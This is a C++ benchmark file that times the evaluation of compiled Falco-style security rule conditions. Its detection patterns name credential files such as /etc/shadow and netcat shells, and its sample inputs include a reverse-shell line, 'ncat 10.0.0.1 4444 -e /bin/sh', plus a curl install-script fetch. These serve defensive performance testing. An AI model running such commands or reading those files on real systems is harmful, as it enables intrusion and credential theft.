// Evaluation cost of compiled conditions shaped like the upstream Falco rules'
// typical checks: large `in` lists (hash sets), `startswith anyof` (prefix
// tries), `pmatch` (path tries), `contains`/`glob`/`regex`, and a whole
// rule-sized and/or tree. Fields are served by a tiny in-memory resolver so
// that only the compiler's filter tree is measured.
#include <benchmark/benchmark.h>

#include <map>
#include <string>
#include <vector>

#include "engine/compiler/field_resolver.h"
#include "engine/compiler/filter.h"
#include "parser/condition/condition_parser.h"

namespace eg {
namespace {

// Current values of the benchmark's event, by field name (strings only).
std::map<std::string, std::string>& event_values() {
  static std::map<std::string, std::string> values;
  return values;
}

class MapExtractor : public Extractor {
 public:
  explicit MapExtractor(const std::string* value) : value_(value) {}
  bool extract(const EventContext&, FieldValues& out) override {
    out.push_back(FieldValue::string(FieldType::CHARBUF, *value_));
    return true;
  }
  FieldType type() const override { return FieldType::CHARBUF; }

 private:
  const std::string* value_;
};

class BenchResolver : public FieldResolver {
 public:
  BenchResolver() {
    for (const char* name : {"proc.name", "proc.pname", "proc.cmdline", "fd.name", "evt.type",
                             "proc.exepath", "fd.directory", "user.name"})
      infos_.push_back(FieldInfo{name, FieldType::CHARBUF, 0, PrintFormat::Na, "bench", ""});
  }
  FieldLookup lookup(std::string_view name) const override {
    FieldLookup r;
    for (const auto& f : infos_)
      if (f.name == name) r.info = &f;
    return r;
  }
  std::unique_ptr<Extractor> make_extractor(const ExtractorRequest& req,
                                            std::string*) const override {
    return std::make_unique<MapExtractor>(&event_values()[std::string(req.info->name)]);
  }
  bool is_event_name(std::string_view) const override { return true; }

 private:
  std::vector<FieldInfo> infos_;
};

const EventContext& no_context() {
  alignas(64) static unsigned char storage[64];
  return *reinterpret_cast<const EventContext*>(storage);
}

std::string shell_list() {
  std::string s = "(ash, bash, csh, ksh, sh, tcsh, zsh, dash";
  for (int i = 0; i < 60; ++i) s += ", binary" + std::to_string(i);
  return s + ")";
}

FilterPtr compile_or_die(const std::string& condition, benchmark::State& state) {
  auto parsed = parse_condition(condition);
  if (!parsed.ok()) {
    state.SkipWithError(("parse: " + parsed.error).c_str());
    return nullptr;
  }
  static BenchResolver resolver;
  auto r = compile_filter(*parsed.expr, resolver);
  if (!r.ok()) state.SkipWithError(("compile: " + r.error).c_str());
  return std::move(r.filter);
}

void run(benchmark::State& state, const std::string& condition,
         std::map<std::string, std::string> values) {
  event_values() = std::move(values);
  auto filter = compile_or_die(condition, state);
  if (!filter) return;
  for (auto _ : state) benchmark::DoNotOptimize(filter->evaluate(no_context()));
}

void BM_InLargeList(benchmark::State& state) {
  run(state, "proc.name in " + shell_list(), {{"proc.name", "python3"}});
}
BENCHMARK(BM_InLargeList);

void BM_StartswithAnyof(benchmark::State& state) {
  run(state,
      "fd.name startswith anyof (/etc/shadow, /etc/sudoers, /etc/pam., /root/.ssh, /etc/ssh/, "
      "/boot, /lib/modules, /usr/lib/systemd, /var/lib/rpm, /etc/ld.so.preload)",
      {{"fd.name", "/usr/lib/x86_64-linux-gnu/libc.so.6"}});
}
BENCHMARK(BM_StartswithAnyof);

void BM_Pmatch(benchmark::State& state) {
  run(state, "fd.name pmatch (/bin, /sbin, /usr/bin, /usr/sbin, /usr/local/bin, /opt/*/bin)",
      {{"fd.name", "/usr/local/share/doc/readme"}});
}
BENCHMARK(BM_Pmatch);

void BM_ContainsAllof(benchmark::State& state) {
  run(state, "proc.cmdline contains allof (curl, -k, http)",
      {{"proc.cmdline", "curl -sSL -k https://example.com/install.sh"}});
}
BENCHMARK(BM_ContainsAllof);

void BM_Glob(benchmark::State& state) {
  run(state, "fd.name glob '/proc/*/environ'", {{"fd.name", "/proc/1234/environ"}});
}
BENCHMARK(BM_Glob);

void BM_Regex(benchmark::State& state) {
  run(state, "proc.cmdline regex '.*(nc|ncat|netcat) .*-e .*'",
      {{"proc.cmdline", "ncat 10.0.0.1 4444 -e /bin/sh"}});
}
BENCHMARK(BM_Regex);

// Shaped after "Read sensitive file untrusted": most events fail early on the
// event type, the others walk several string checks.
void BM_RuleSizedTree(benchmark::State& state) {
  std::string cond =
      "evt.type in (open, openat, openat2) and fd.name startswith /etc and "
      "(fd.name in (/etc/shadow, /etc/sudoers, /etc/pam.conf, /etc/security/pwquality.conf) or "
      "fd.directory in (/etc/sudoers.d, /etc/pam.d)) and proc.name != sshd and not proc.name in " +
      shell_list() + " and not (proc.pname = systemd and proc.exepath startswith /usr/lib/systemd)";
  run(state, cond,
      {{"evt.type", "openat"}, {"fd.name", "/etc/shadow"}, {"fd.directory", "/etc"},
       {"proc.name", "cat"}, {"proc.pname", "bash"}, {"proc.exepath", "/usr/bin/cat"}});
}
BENCHMARK(BM_RuleSizedTree);

}  // namespace
}  // namespace eg

BENCHMARK_MAIN();
